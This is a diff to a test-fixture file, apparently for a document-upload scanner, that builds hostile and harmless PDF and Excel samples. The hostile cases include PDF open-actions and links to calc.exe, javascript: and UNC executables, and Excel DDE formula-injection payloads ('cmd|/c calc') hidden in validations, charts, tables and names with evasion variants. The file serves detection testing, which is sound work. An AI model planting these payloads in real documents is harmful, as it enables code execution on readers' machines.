@@ -24,13 +24,32 @@ const opening = (action: string) => pdfOf(onePage({ catalog: `/OpenAction ${acti
 const text = (content: string) => Buffer.from(content);
 const withObjects = (...more: (string | Buffer)[]) => pdfOf(onePage({ more }));
 const word = (more: Parameters<typeof office>[1]) => office('docx', more);
-const sheet = (content: string) =>
-  office('xlsx', {
-    content: '<workbook/>',
-    types:
-      '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>',
-    more: { 'xl/worksheets/sheet1.xml': content },
+/** A workbook with a sheet, what its list of sheets and names says, and other parts by their names and kinds. */
+const sheet = (
+  content: string,
+  workbook = '',
+  parts: Readonly<Record<string, [kind: string, Part: string]>> = {},
+) => {
+  const all = { 'worksheets/sheet1.xml': ['spreadsheetml.worksheet', content] as const, ...parts };
+  const types = Object.entries(all).map(
+    ([name, [kind]]) =>
+      `<Override PartName="/xl/${name}" ContentType="application/vnd.openxmlformats-officedocument.${kind}+xml"/>`,
+  );
+  return office('xlsx', {
+    content: `<workbook>${workbook}</workbook>`,
+    types: types.join(''),
+    more: Object.fromEntries(Object.entries(all).map(([name, [, xml]]) => [`xl/${name}`, xml])),
   });
+};
+const formula = (text: string) => sheet(`<worksheet><c><f>${text}</f></c></worksheet>`);
+const name = (text: string) => sheet('<worksheet/>', `<definedName name="a">${text}</definedName>`);
+const table = (xml: string) =>
+  sheet('<worksheet/>', '', { 'tables/table1.xml': ['spreadsheetml.table', `<table>${xml}</table>`] });
+/** A formula that asks another program. */
+const ASKS = "cmd|'/c calc'!A0";
+
+const linkOf = (action: string) => pdfOf(onePage({ page: `/Annots [<< /Subtype /Link /A ${action} >>]` }));
+const linkTo = (address: string) => linkOf(`<< /S /URI /URI ${address} >>`);
 
 /** A document of so many pages, which stand in its list one by one. */
 export const longPdf = (pages: number): Buffer =>
@@ -93,6 +112,69 @@ export const HOSTILE: Readonly<Record<string, [name: string, bytes: () => Buffer
     'pdfActive',
   ],
   'a page that is opened on the web': ['a.pdf', () => opening('<< /S /URI /URI (http://x) >>'), 'pdfActive'],
+  'printing at the opening': ['a.pdf', () => opening('<< /S /Named /N /Print >>'), 'pdfActive'],
+  'saving at the opening, by another object': [
+    'a.pdf',
+    () => pdfOf(onePage({ catalog: '/OpenAction 6 0 R', more: ['<< /S /Named /N /SaveAs >>'] })),
+    'pdfActive',
+  ],
+  'something at the opening whose name stands elsewhere': [
+    'a.pdf',
+    () => pdfOf(onePage({ catalog: '/OpenAction << /S /Named /N 6 0 R >>', more: ['/Print'] })),
+    'pdfActive',
+  ],
+  ...Object.fromEntries(
+    [
+      '(file:///C:/Windows/System32/calc.exe)',
+      '(javascript:alert\\(1\\))',
+      '(java\\\nscript:alert)',
+      '(\\152avascript:x)',
+      '<6A6176 617363726970743A78>',
+      '(\\\\\\\\server\\\\share\\\\a.exe)',
+      '(//server/share/a.exe)',
+      '(a.exe)',
+      '(ms-word:ofe|u|https://x/a.docx)',
+      '(data:text/html,x)',
+      '(\xfe\xff\0h\0t\0t\0p\0:)',
+      '/https:#2F',
+      '[(https://x)]',
+    ].map((address) => [
+      `a link that is no page of the web: ${address}`,
+      ['a.pdf', () => linkTo(address), 'pdfActive'],
+    ]),
+  ),
+  'a link whose address stands elsewhere': [
+    'a.pdf',
+    () =>
+      pdfOf(onePage({ page: '/Annots [<< /A << /S /URI /URI 6 0 R >> >>]', more: ['(file:///c:/a.exe)'] })),
+    'pdfActive',
+  ],
+  'a link whose address stands in two places': [
+    'a.pdf',
+    () =>
+      pdfOf(
+        onePage({
+          page: '/Annots [<< /A << /S /URI /URI 6 0 R >> >>]',
+          more: ['(https://x)', stream('', '6 0 obj (file:///c:/a.exe) endobj')],
+        }),
+      ),
+    'pdfActive',
+  ],
+  'a link in packed objects': [
+    'a.pdf',
+    () => withObjects(packed(['<< /S /URI /URI (file:///c:/a.exe) >>'])),
+    'pdfActive',
+  ],
+  'a link with two addresses': [
+    'a.pdf',
+    () => linkOf('<< /S /URI /URI (https://x) /URI (file:///a) >>'),
+    'pdfBroken',
+  ],
+  'links from a folder': [
+    'a.pdf',
+    () => pdfOf(onePage({ catalog: '/URI << /Base (file:///c:/) >>' })),
+    'pdfActive',
+  ],
   'an opening by another object': [
     'a.pdf',
     () => pdfOf(onePage({ catalog: '/OpenAction 6 0 R', more: ['<< /S /URI /URI (http://x) >>'] })),
@@ -238,11 +320,95 @@ export const HOSTILE: Readonly<Record<string, [name: string, bytes: () => Buffer
     () => word({ content: '<w:document xmlns:w="w"><w:fldSimple w:instr="INCLUDEPICTURE x"/></w:document>' }),
     'documentExternal',
   ],
-  'a formula that asks a program': [
+  'a formula that asks a program': ['a.xlsx', () => formula(ASKS), 'documentExternal'],
+  'such a formula between sheets whose names look like texts': [
     'a.xlsx',
-    () => sheet("<worksheet><c><f>cmd|'/c calc'!A0</f></c></worksheet>"),
+    () => formula(`'"'!A1+${ASKS}+'"'!A1`),
     'documentExternal',
   ],
+  'such a formula between columns whose names look like sheets': [
+    'a.xlsx',
+    () => formula(`T['#]+'"'!A1+${ASKS}+'"'!A1`),
+    'documentExternal',
+  ],
+  'such a formula with brackets that do not close': [
+    'a.xlsx',
+    () => formula(`T[+${ASKS}`),
+    'documentExternal',
+  ],
+  'such a formula as one name': ['a.xlsx', () => formula("'cmd|/c calc'!A0"), 'documentExternal'],
+  'such a formula as a sheet that cannot be': [
+    'a.xlsx',
+    () =>
+      sheet("<worksheet><c><f>'cmd|/c'!A0</f></c></worksheet>", '<sheets><sheet name="cmd|/c"/></sheets>'),
+    'documentExternal',
+  ],
+  'such a formula behind a name': ['a.xlsx', () => name(ASKS), 'documentExternal'],
+  'such a formula of what may be typed': [
+    'a.xlsx',
+    () =>
+      sheet(
+        `<worksheet><dataValidation><formula1>1</formula1><formula2>${ASKS}</formula2></dataValidation></worksheet>`,
+      ),
+    'documentExternal',
+  ],
+  'such a formula of what may be typed, as newer programs write it': [
+    'a.xlsx',
+    () =>
+      sheet(
+        `<worksheet><x14:dataValidation><x14:formula1><xm:f>${ASKS}</xm:f></x14:formula1></x14:dataValidation></worksheet>`,
+      ),
+    'documentExternal',
+  ],
+  'such a formula of a colour': [
+    'a.xlsx',
+    () => sheet(`<worksheet><cfRule><formula>${ASKS}</formula></cfRule></worksheet>`),
+    'documentExternal',
+  ],
+  'such a formula of a scale': [
+    'a.xlsx',
+    () => sheet(`<worksheet><cfvo type="formula" val="${ASKS}"/></worksheet>`),
+    'documentExternal',
+  ],
+  'such a formula of a column': [
+    'a.xlsx',
+    () => table(`<calculatedColumnFormula>${ASKS}</calculatedColumnFormula>`),
+    'documentExternal',
+  ],
+  'such a formula of a total': [
+    'a.xlsx',
+    () => table(`<totalsRowFormula>${ASKS}</totalsRowFormula>`),
+    'documentExternal',
+  ],
+  'such a formula of a pivot table': [
+    'a.xlsx',
+    () =>
+      sheet('<worksheet/>', '', {
+        'pivot.xml': ['spreadsheetml.pivotCacheDefinition', `<cacheField formula="${ASKS}"/>`],
+      }),
+    'documentExternal',
+  ],
+  'such a formula of a chart': [
+    'a.xlsx',
+    () =>
+      sheet('<worksheet/>', '', {
+        'chart1.xml': ['drawingml.chart', `<c:chart><c:f>${ASKS}</c:f></c:chart>`],
+      }),
+    'documentExternal',
+  ],
+  ...Object.fromEntries(
+    [
+      '_xlfn.WEBSERVICE("https://x/"&amp;A1)',
+      'IF(A1,_xlfn.IMAGE("https://x/a.png"),1)',
+      'RTD("a.b",,"c")',
+      'DDE("soffice";"a";"b")',
+      '_xlfn.STOCKHISTORY("MSFT",A1)',
+      '_xlfn.TRANSLATE(A1)',
+    ].flatMap((text) => [
+      [`a formula that asks elsewhere: ${text}`, ['a.xlsx', () => formula(text), 'documentExternal']],
+      [`a name that asks elsewhere: ${text}`, ['a.xlsx', () => name(text), 'documentExternal']],
+    ]),
+  ),
   'another workbook': [
     'a.xlsx',
     () =>
@@ -329,6 +495,33 @@ export const HARMLESS: Readonly<
     () => pdfOf(onePage({ page: '/Annots [<< /A << /S /URI /URI (https://x) >> >>]' })),
     'pdf',
   ],
+  ...Object.fromEntries(
+    [
+      '(http://x/a\\(b\\).pdf)',
+      '(\n HTTPS://doi.org/10.1000/182)',
+      '(mailto:a@hospital.example)',
+      '(tel:+1)',
+      '(www.hospital.example)',
+      '<68747470733A2F2F78>',
+      '()',
+      'null',
+    ].map((address) => [`a PDF with a link to ${address}`, ['a.pdf', () => linkTo(address), 'pdf']]),
+  ),
+  'a PDF with a link whose address stands elsewhere': [
+    'a.pdf',
+    () =>
+      pdfOf(
+        onePage({ page: '/Annots [<< /A << /S /URI /URI 20 0 R >> >>]', more: [packed(['(https://x)'])] }),
+      ),
+    'pdf',
+  ],
+  'a PDF with links from a page of the web': [
+    'a.pdf',
+    () => pdfOf(onePage({ catalog: '/URI << /Base (https://x/) >>' })),
+    'pdf',
+  ],
+  'a PDF that opens at its last page': ['a.pdf', () => opening('<< /S /Named /N /LastPage >>'), 'pdf'],
+  'a PDF with a button that prints': ['a.pdf', () => linkOf('<< /S /Named /N /Print >>'), 'pdf'],
   'a PDF with another name': ['offer.docx', () => pdf(), 'pdf'],
   'a text document': ['a.docx', () => office('docx'), 'docx'],
   'a text document with a link': [
@@ -342,7 +535,30 @@ export const HARMLESS: Readonly<
     () => office('pptx', { more: { 'ppt/embeddings/a.xlsx': office('xlsx', { content: '<workbook/>' }) } }),
     'pptx',
   ],
-  'a workbook': ['a.xlsx', () => sheet('<worksheet><c><f>IF(A1="a|b!",1,2)</f></c></worksheet>'), 'xlsx'],
+  'a workbook': ['a.xlsx', () => formula('IF(A1="a|b!",1,2)'), 'xlsx'],
+  'a workbook with names, areas, lists, colours and totals': [
+    'a.xlsx',
+    () =>
+      sheet(
+        `<worksheet><c><f>SUM(Prices[[#All],[Yes|No]:['#|'"]])*'It''s "new"'!A1&amp;HYPERLINK("https://x/","RTD(1)")</f></c>
+        <c><f>'2025|2026'!A1+SUM('A|B:C|D'!A1)+IMAGE</f></c>
+        <dataValidation><formula1>"Yes|No!,No"</formula1></dataValidation>
+        <dataValidation><formula1>Lists!$A$1:$A$9</formula1><formula2>TODAY()</formula2></dataValidation>
+        <cfRule><formula>AND(A1&lt;&gt;"",ISERROR(_xlfn.XLOOKUP(A1,B:B,C:C)))</formula></cfRule>
+        <cfvo type="num" val="3"/><hyperlink ref="A1" location="'2025|2026'!A1"/></worksheet>`,
+        `<sheets><sheet name="2025|2026"/><sheet name="a|b"/><sheet name="C|D"/></sheets>
+        <definedName name="_xlnm.Print_Area">'2025|2026'!$A$1:$F$40,Lists!$1:$2</definedName>
+        <definedName name="Rate">#REF!</definedName><definedName name="Text">"cmd|'/c calc'!A0"</definedName>`,
+        {
+          'tables/table1.xml': [
+            'spreadsheetml.table',
+            '<table><calculatedColumnFormula>Prices[[#This Row],[Unit]]*2</calculatedColumnFormula><totalsRowFormula>SUBTOTAL(109,[a|b])</totalsRowFormula></table>',
+          ],
+          'charts/chart1.xml': ['drawingml.chart', "<c:chart><c:f>'2025|2026'!$A$1:$A$4</c:f></c:chart>"],
+        },
+      ),
+    'xlsx',
+  ],
   'a picture': ['a.png', () => png(), 'png'],
   'a picture with a script in its texts': [
     'a.png',
